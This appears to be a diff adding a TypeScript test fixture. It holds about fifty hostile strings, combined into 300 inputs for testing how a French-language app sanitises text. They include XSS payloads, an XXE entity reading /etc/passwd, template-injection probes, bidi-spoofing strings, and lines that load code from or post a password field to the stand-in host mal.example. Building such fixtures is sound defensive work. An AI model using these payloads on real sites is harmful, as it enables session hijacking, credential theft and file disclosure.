@@ -1,0 +1,70 @@
+/**
+ * What somebody would write in a text to make a browser run it, fetch something or lie about what
+ * it shows: tags of every sort, mutations, addresses, templates, turned and hidden letters.
+ */
+const VECTORS: readonly string[] = [
+  '<script>alert(1)</script>',
+  '<script src=//mal.example/x.js></script>',
+  '<img src=x onerror=alert(1)>',
+  '<img src="https://mal.example/trace.png">',
+  '<svg onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg><foreignObject><body onload=alert(1)>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>">',
+  '<a href="javascript:alert(1)">ici</a>',
+  '<a href="data:text/html,<script>alert(1)</script>">ici</a>',
+  '<a href="https://exemple.fr">un lien</a>',
+  '<b>gras</b>',
+  '<form action="https://mal.example"><input name=motdepasse></form>',
+  '<input autofocus onfocus=alert(1)>',
+  '<details open ontoggle=alert(1)>',
+  '<body onload=alert(1)>',
+  '<link rel=stylesheet href=//mal.example/x.css>',
+  '<meta http-equiv=refresh content="0;url=//mal.example">',
+  '<base href="//mal.example/">',
+  '<object data="data:text/html;base64,PHNjcmlwdD4="></object>',
+  '<style>@import "//mal.example/x.css";</style>',
+  '<div style="background:url(//mal.example/x)">',
+  '</title><script>alert(1)</script>',
+  '< script >alert(1)</ script >',
+  '<!--<img src="--><img src=x onerror=alert(1)//">',
+  '<![CDATA[<script>alert(1)</script>]]>',
+  '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
+  '＜script＞alert(1)＜/script＞',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '&#60;img src=x onerror=alert(1)&#62;',
+  '&#x3C;svg onload=alert(1)&#x3E;',
+  '\\x3cscript\\x3ealert(1)\\x3c/script\\x3e',
+  '\\u003cscript\\u003ealert(1)',
+  '%3Cscript%3Ealert(1)%3C/script%3E',
+  '%253Cscript%253Ealert(1)',
+  'javascript:alert(document.cookie)',
+  'JaVaScRiPt:alert(1)',
+  'java\tscript:alert(1)',
+  'vbscript:msgbox(1)',
+  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
+  "{{constructor.constructor('alert(1)')()}}",
+  '${alert(1)}',
+  '#{7*7} <%= 7*7 %> [[${7*7}]]',
+  'Votre solde\u00a0: \u202eeuros 00,001\u202c',
+  'Mon\u200besp\u200bace \u2066CESU\u2069',
+  '__proto__',
+];
+
+const WRITTEN: readonly ((vector: string) => string)[] = [
+  (vector) => vector,
+  (vector) => `Bienvenue ${vector}`,
+  (vector) => `${vector} dans votre espace`,
+  (vector) => `"'>${vector}`,
+  (vector) => `Bonjour,\n${vector}`,
+  (vector) => `${vector} ${vector}`,
+];
+
+/** Three hundred of them. */
+export const HOSTILE_TEXTS: readonly string[] = VECTORS.flatMap((vector) =>
+  WRITTEN.map((write) => write(vector)),
+);
